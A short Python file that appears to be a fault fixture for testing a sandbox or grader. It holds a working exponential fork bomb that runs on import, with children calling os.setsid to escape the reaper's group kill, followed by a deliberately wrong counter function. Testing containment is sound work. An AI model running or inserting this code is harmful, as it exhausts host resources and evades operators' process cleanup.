"""Fault: an exponential fork bomb whose every child first leaves for a session of its own
(os.setsid: a process group the reaper cannot kill in one call, and, where the kernel groups the
CPU by session, an autogroup of its own, each as heavy as the reaper's); then a wrong answer."""

import os
import time

while True:
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
    except OSError:
        time.sleep(0.01)


def update_counter(count, increment):
    return count, increment  # wrong: never counts up
